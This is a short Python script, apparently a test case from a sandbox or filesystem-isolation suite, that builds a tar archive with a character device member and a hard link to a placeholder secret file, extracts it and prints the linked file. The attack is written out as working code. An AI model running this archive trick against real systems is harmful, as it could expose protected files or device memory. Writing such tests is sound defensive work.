# category: filesystem
# attack: a tar with a character device member (mknod) and a hard link to the secret
# profile: basic filesystem
import tarfile
with tarfile.open("dev.tar", "w") as t:
    d = tarfile.TarInfo("mem")
    d.type = tarfile.CHRTYPE
    d.devmajor, d.devminor = 1, 1
    t.addfile(d)
    h = tarfile.TarInfo("hard")
    h.type = tarfile.LNKTYPE
    h.linkname = "@SECRET_FILE@"
    t.addfile(h)
tarfile.open("dev.tar").extractall(".", numeric_owner=True)
print(open("hard").read())
